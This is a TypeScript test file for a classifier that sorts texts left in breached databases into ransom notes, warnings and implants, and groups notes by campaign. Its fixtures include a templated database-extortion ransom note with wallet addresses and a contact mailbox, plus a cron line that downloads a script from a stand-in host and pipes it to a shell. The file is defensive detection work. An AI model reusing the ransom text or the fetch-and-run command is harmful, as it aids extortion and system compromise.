import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { judgeNote } from './note.ts';

const NOTE = (wallet: string, sum: string, code: string, names: string) =>
  `All your data is a backed up. You must pay ${sum} BTC to${wallet}48 hours for recover it. ` +
  `After 48 hours expiration we will leaked and exposed all your data. In case of refusal to pay, we will contact the ` +
  `General Data Protection Regulation, GDPR and notify them. Your databases: ${names}. Your DBCODE is: ${code}. ` +
  `Mail us: rambler+${code}@onionmail.org, https://buy.example/${code}`;
const ONE = NOTE(
  'bc1qf0097pe20r9jvnl68sk6a2erh0t9a3mt5pap3z',
  '0.0041',
  '3XK9PA',
  'shop, customers, invoices_2024',
);
const TWO = NOTE('1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa', '0,0150', 'QQ81ZZ7', 'clinic');

describe('judgeNote', () => {
  it('says what a note is', () => {
    expect(judgeNote(ONE, 'none')).toMatchObject({
      class: 'ransom',
      evidence: true,
      fragments: ['backed-up', 'must-pay', '48-hours', 'gdpr', 'dbcode'],
      wallets: [{ kind: 'btc-segwit', checked: true }],
      mails: 1,
      links: 1,
      bitcoin: 0.0041,
    });
  });

  it('gives the notes of one campaign one hash, whatever wallet, sum, code and names', () => {
    const campaign = judgeNote(ONE, 'strong').campaign;
    expect(campaign).toMatch(/^[0-9a-f]{64}$/);
    expect(judgeNote(TWO, 'strong').campaign).toBe(campaign);
    expect(
      judgeNote(
        `  ${ONE.replaceAll(' ', '\n ').toUpperCase().replace('TOBC1QF0097PE20R9JVNL68SK6A2ERH0T9A3MT5PAP3Z48', 'TO BC1QF0097PE20R9JVNL68SK6A2ERH0T9A3MT5PAP3Z 48')}`,
        'strong',
      ).campaign,
    ).toBe(campaign);
    expect(
      judgeNote('Your indexs has been dropped. SEND 0.2 BTC TO THIS WALLET', 'strong').campaign,
    ).not.toBe(campaign);
  });

  it('holds nothing of the text', () => {
    for (const text of [ONE, TWO]) {
      const said = JSON.stringify(judgeNote(text, 'weak'));
      for (const part of [
        'bc1q',
        '1A1z',
        '3XK9PA',
        'QQ81',
        'customers',
        'clinic',
        'onionmail',
        'buy.example',
      ])
        expect(said).not.toContain(part);
    }
  });

  it.each([
    ['SEND 0.2 BTC TO THIS WALLET: 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa', 'weak', 'ransom', true],
    ['SEND 0.2 BTC TO THIS WALLET', 'none', 'ransom', false],
    ['your ransom goes to 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa', 'weak', 'ransom', true],
    ['your ransom goes to 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb', 'weak', 'unknown', false],
    ['Your DB has been pwned because it is publically accessible at port 27017', 'weak', 'warning', true],
    ['以下数据库已被删除：shop。您需要支付 0.01 BTC', 'none', 'ransom', true],
    ['*/3 * * * * curl -fsSL http://192.0.2.1/x.sh | sh', 'weak', 'implant', true],
    ['The temperature warning was raised at 12:00', 'weak', 'unknown', false],
    ['README: run npm install, then npm start', 'weak', 'unknown', false],
    ['', 'weak', 'unknown', false],
    ['', 'strong', 'unknown', true],
  ] as const)('%s (%s name): %s, evidence %s', (text, name, kind, evidence) => {
    expect(judgeNote(text, name)).toMatchObject({ class: kind, evidence });
  });

  it('takes any text, in bounded time, and judges it the same twice', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 400 }), (text) => {
        expect(judgeNote(text, 'none')).toEqual(judgeNote(text, 'none'));
      }),
    );
    for (const piece of [
      'a@',
      'http://',
      'databases: ',
      '1',
      'code is ',
      'bc1q',
      '*/1 * * * * ',
      '0.',
      '-',
    ]) {
      expect(judgeNote(piece.repeat(100_000), 'none').evidence).toBe(false);
    }
  });
});
